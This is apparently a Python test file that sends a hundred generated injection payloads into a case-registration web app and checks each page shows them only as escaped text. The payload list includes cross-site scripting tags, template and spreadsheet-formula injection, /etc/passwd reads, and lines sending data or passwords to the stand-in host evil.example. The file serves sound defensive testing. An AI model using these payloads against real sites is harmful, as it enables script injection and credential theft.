"""A hundred ways to smuggle a script, a formula or a template into a page: all come back as the words they are."""

from itertools import product

from house import WORKED_CASES, House, registration, when
from surfer import SignIn

from mediation import clock

C01 = WORKED_CASES["C01"]
TAGS = (
    "<script>alert({0})</script>", "<img src=x onerror=alert({0})>", "<svg/onload=alert({0})>",
    "<body onload=alert({0})>",
    "<iframe src=javascript:alert({0})>", "<a href='javascript:alert({0})'>点</a>",
    "<details open ontoggle=alert({0})>",
    "<style>*{{background:url(//evil.example/{0})}}</style>", "<base href=//evil.example/{0}>",
    "<form action=//evil.example/{0}><input name=password>", "<meta http-equiv=refresh content='0;//evil.example/{0}'>",
    "<!--{0}--><script>", "{{{{7*{0}}}}}", "{{% include '/etc/passwd' %}}{0}", "${{7*{0}}}", "#{{7*{0}}}",
    "=HYPERLINK(\"http://evil.example/{0}\")", "@SUM({0}+1)|cmd", "file:///etc/passwd#{0}", "&lt;script&gt;{0}",
)  # fmt: skip
WRAPPED = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}")
PAYLOADS = [wrap.format(tag.format(number)) for number, (wrap, tag) in enumerate(product(WRAPPED, TAGS), start=1)]
PARTS = [PAYLOADS[at : at + 10] for at in range(0, 100, 10)]
OURS = (
    "//script[not(@src)] | //*[@*[starts-with(name(), 'on')]] | //base | //iframe"
    " | //*[starts-with(@href, 'javascript')]"
)


def test_a_hundred_payloads_come_back_as_words_on_every_page_of_their_case(house: House, sign_in: SignIn) -> None:
    assert len(PAYLOADS) == 100
    clock.move_to(when(C01, "T_register"))
    surfer = sign_in("u_chen")
    for some in PARTS:
        words = "\n".join(some)
        case = house.register("u_chen", registration(C01, summary=words, occurred_place=some[0][:60]))
        key = house.task_key(case.case_id, "T_screen")
        for address in (f"/cases/{case.case_id}", f"/tasks/{case.case_id}-{key}", "/cases", "/worklist"):
            page = surfer.get(address)
            assert page.status == 200 and page.tree.xpath(OURS) == [], address
            assert "evil.example" not in "".join(page.tree.xpath("//@href | //@src | //@action"))
        assert house.entered(case.case_id)[0]["summary"].splitlines() == some


def test_they_come_back_as_words_in_a_form_that_is_refused(house: House, sign_in: SignIn) -> None:
    clock.move_to(when(C01, "T_register"))
    surfer = sign_in("u_chen")
    for some in PARTS:
        words = "\n".join(some)
        token = surfer.get("/cases/new").token
        sent = {"csrf_token": token, "key": "12345678", "summary": words, "occurred_place": some[1]}
        page = surfer.post("/cases/new", sent)
        assert page.status == 422 and page.tree.xpath(OURS) == []
        assert page.standing["summary"].splitlines() == some and page.standing["occurred_place"] == some[1]
